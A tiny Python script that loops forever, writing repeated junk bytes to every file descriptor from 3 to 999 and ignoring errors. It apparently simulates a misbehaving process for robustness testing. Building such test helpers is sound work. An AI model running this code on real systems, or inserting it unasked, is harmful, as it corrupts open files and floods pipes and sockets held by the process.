"""Writes to every descriptor, without end."""

import os

while True:
    for _descriptor in range(3, 1000):
        try:
            os.set_blocking(_descriptor, False)
            while os.write(_descriptor, b"\0\1\0\0\0\2x{}" * 4096):
                pass
        except OSError:
            pass
